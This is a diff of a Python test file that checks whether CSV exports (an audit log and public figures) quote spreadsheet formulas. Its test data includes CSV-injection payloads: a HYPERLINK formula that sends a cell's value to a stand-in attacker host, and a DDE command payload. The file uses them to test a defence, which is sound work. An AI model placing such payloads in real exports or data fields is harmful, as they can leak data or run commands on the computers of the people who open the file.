@@ -1,4 +1,5 @@
 """CSV exports never hand a spreadsheet a formula: the audit export and the public figures."""
+
 import csv
 import io
 from decimal import Decimal
@@ -14,8 +15,7 @@ from engine.db import db
 from tests.helpers import submit
 from tests.integration.test_web import login, web  # noqa: F401  (fixture)
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
 
 
 @pytest.mark.parametrize("text", FORMULAS + ["'=already quoted", "'"])
@@ -29,7 +29,7 @@ def test_numbers_stay_numbers(value):
     assert neutralise(value) is value
 
 
-@pytest.mark.parametrize("text", ["plain", "3510********0001", "{\"a\": 1}", "", "a=b", "<5"])
+@pytest.mark.parametrize("text", ["plain", "3510********0001", '{"a": 1}', "", "a=b", "<5"])
 def test_ordinary_text_is_unchanged(text):
     assert neutralise(text) == text == restore(text)
 
@@ -40,8 +40,11 @@ def test_audit_export_quotes_formulas_and_the_chain_still_verifies_from_the_file
         agent = agents[i % len(agents)]
         page = web.get("/login").get_data(as_text=True)
         token = page.split('name="csrf_token" value="')[1].split('"')[0]
-        response = web.post("/login", data={"username": username, "password": "wrong-password-1",
-                                            "csrf_token": token}, headers={"User-Agent": agent})
+        response = web.post(
+            "/login",
+            data={"username": username, "password": "wrong-password-1", "csrf_token": token},
+            headers={"User-Agent": agent},
+        )
         assert response.status_code == 401
     assert login(web, "w_auditor").status_code == 302
     export = web.get("/audit/export.csv")
@@ -63,14 +66,13 @@ def test_audit_export_quotes_formulas_and_the_chain_still_verifies_from_the_file
 
 def test_public_figures_csv_quotes_names_and_keeps_numbers(web, svc, personas):
     submit(svc, personas["civil_servant"])
-    db.session.execute(update(Application).values(village="=HYPERLINK(\"http://evil.example\")",
-                                                  district_name="@cmd"))
+    db.session.execute(update(Application).values(village='=HYPERLINK("http://evil.example")', district_name="@cmd"))
     db.session.commit()
     cache.clear()
     text = web.get("/figures.csv").get_data(as_text=True)
     cache.clear()
     rows = list(csv.DictReader(io.StringIO(text)))
     village = [r for r in rows if r["level"] == "village"]
-    assert [r["village"] for r in village] == ["'=HYPERLINK(\"http://evil.example\")"]
+    assert [r["village"] for r in village] == ['\'=HYPERLINK("http://evil.example")']
     assert {r["district_name"] for r in rows if r["level"] != "regency"} == {"'@cmd"}
     assert rows[0]["registered"] == "1" and rows[0]["rejected"] == "1"  # numbers stay numbers
